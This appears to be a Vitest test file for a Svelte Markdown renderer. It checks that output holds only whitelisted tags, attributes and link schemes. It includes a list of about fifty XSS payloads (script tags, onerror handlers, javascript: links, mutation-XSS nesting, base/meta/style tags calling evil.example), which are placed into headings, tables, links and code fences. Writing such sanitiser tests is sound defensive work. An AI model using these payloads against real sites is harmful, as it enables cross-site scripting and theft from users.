import { render } from 'svelte/server';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import Markdown from './Markdown.svelte';

beforeAll(() => vi.stubGlobal('location', { origin: 'https://studio.example', host: 'studio.example' }));

const draw = (text: string, isOpen = false): string => render(Markdown, { props: { text, isOpen } }).body.replace(/<!--[^>]*-->/g, '');

const tags = /^(?:div|p|h3|h4|h5|h6|em|strong|del|code|pre|br|hr|ul|ol|li|blockquote|a|table|thead|tbody|tr|th|td|figure|figcaption|span|button|svg|path|input)$/;
const attributes = /^(?:class|href|target|rel|title|role|status|type|aria-[a-z]+|tabindex|scope|style|start|disabled|checked|width|height|viewBox|d)$/;
const styles = /^text-align: (?:start|end|center);?$/;

// Every element and attribute of `html`, of which none may come from the text.
function expectHarmless(html: string): void {
  let rest = html;
  for (const [all, close, name, inside] of html.matchAll(/<(\/?)([a-zA-Z][\w-]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    rest = rest.replace(all, '');
    expect(name, all).toMatch(tags);
    if (close) continue;
    for (const [, attribute, value = ''] of inside!.matchAll(/\s([\w-]+)(?:="([^"]*)")?/g)) {
      expect(attribute, all).toMatch(attributes);
      if (attribute === 'href') expect(value, all).toMatch(/^(?:https?:\/\/|mailto:|\/(?!\/))/);
      if (attribute === 'style') expect(value, all).toMatch(styles);
    }
  }
  expect(rest).not.toContain('<');
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<base href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example"</style>',
  '<template><script>alert(1)</script></template>',
  '<select><noembed></select><script x=\'a@b\'a>y</script>',
  '<x\u0000y onclick=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php <script>alert(1)</script> ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '</p></div></main><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\'"`><b onmouseover=alert(1)>',
  '{alert(1)}${alert(1)}{{alert(1)}}',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](java&#10;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x]( javascript:alert(1) "t")',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](https://a.example" onclick="alert(1))',
  '[x](https://a.example "t\\" onclick=\\"alert(1)")',
  '[x](https://a.example \'"><script>alert(1)</script>\')',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://a.example/x.png)',
  '![<script>](https://a.example/"onerror="alert(1))',
  '<javascript:alert(1)>',
  '<https://a.example/"onclick="alert(1)>',
  'https://a.example/"onclick="alert(1)<script>',
  '[x][r]\n\n[r]: javascript:alert(1) "onclick=alert(1)"',
  '[x][__proto__] [constructor]\n\n[__proto__]: /a\n[constructor]: vbscript:1',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '~~~js" onload="alert(1)\n</span><img src=x onerror=alert(1)>\n~~~',
  '`</code><script>alert(1)</script>`',
  '$$\\href{javascript:alert(1)}{x}\\includegraphics{//evil.example}$$',
  '\\(\\style{background:url(//evil.example)}{x}</math><script>alert(1)</script>\\)',
];
const places: Record<string, (attack: string) => string> = {
  'alone': (attack) => attack,
  'within a line': (attack) => `see ${attack} here`,
  'a heading': (attack) => `# ${attack}`,
  'a list': (attack) => `- a\n- [ ] ${attack.replaceAll('\n', '\n  ')}`,
  'a quote': (attack) => `> ${attack.replaceAll('\n', '\n> ')}`,
  'a table': (attack) => `| ${attack.split('\n')[0]} | b |\n|:-:|--:|\n| c | ${attack.split('\n')[0]} |`,
  'emphasis': (attack) => `**${attack}** ~~*${attack}*~~`,
  'the name of a link': (attack) => `[${attack}](https://a.example) ![${attack}](/a)`,
  'the title of a link': (attack) => `[a](https://a.example "${attack}")`,
  'the address of a link': (attack) => `[a](<${attack}>) ![a](${attack})`,
  'a definition': (attack) => `[a]\n\n[a]: <${attack}> "${attack}"`,
  'a language': (attack) => `\`\`\`${attack}\nx\n\`\`\``,
};

describe.each(Object.entries(places))('an attack in %s', (_place, put) => {
  it.each(attacks)('is text: %s', (attack) => {
    const text = put(attack);
    expectHarmless(draw(text));
    for (let end = 1; end < text.length; end += 7) expectHarmless(draw(text.slice(0, end), true));
  });
});

describe('text', () => {
  it.each(['> ', '- ', '1. ', '> - ', '*a **b ', '[', '![', '**a*', '~~*', '<b>', '`', '\\('])('that goes deep with %j is drawn', (mark) => {
    const text = `${mark.repeat(1000)}end${mark.split('').reverse().join('').repeat(1000)}`;
    expectHarmless(draw(text));
    expect(draw(text)).toContain('end');
  });
  it('shows the HTML in it as it was written', () => {
    expect(draw('a <b onclick="x">c</b> &amp; &lt;i>')).toContain('a &lt;b onclick="x">c&lt;/b> &amp; &lt;i>');
    expect(draw('<div>\n  <i>x</i>\n</div>')).toContain('>&lt;div>\n  &lt;i>x&lt;/i>\n&lt;/div></p>');
  });
  it('shows a link that may not be followed as it was written', () => {
    expect(draw('[x](javascript:alert(1))')).toContain('[x](javascript:alert(1))');
    expect(draw('![x](data:image/png;base64,AA)')).toContain('![x](data:image/png;base64,AA)');
  });
  it('opens links to others apart, and tells them nothing', () => {
    expect(draw('[x](https://a.example)')).toContain('<a class="link" href="https://a.example/" target="_blank" rel="noopener noreferrer">x</a>');
    expect(draw('[x](/library)')).toContain('<a class="link" href="/library" rel="noopener noreferrer">x</a>');
  });
  it('loads no picture', () => {
    const html = draw('![a cat](https://evil.example/cat.png?said=secret) [![b](https://evil.example/b.png)](https://a.example)');
    expect(html).not.toContain('<img');
    expect(html).toContain('Picture at evil.example: a cat</a>');
    expect(html).toContain('>Picture at evil.example: b</a>');
  });
  it('draws lists, tasks, tables and headings as what they are', () => {
    expect(draw('3. a\n4. b')).toMatch(/<ol start="3"><li[^>]*>a<\/li><li[^>]*>b<\/li><\/ol>/);
    expect(draw('- [x] a')).toMatch(/<li class="task"><input type="checkbox" disabled="" checked="" aria-label="Done"\/>a<\/li>/);
    expect(draw('|a|\n|-:|\n|b<br>c|')).toMatch(/<th scope="col"[^>]*style="text-align: end[^>]*>a<\/th>[\s\S]*>b<br\/>c<\/td>/);
    expect(draw('# A\n\n### B')).toMatch(/<h3>A<\/h3><h4>B<\/h4>/);
  });
});
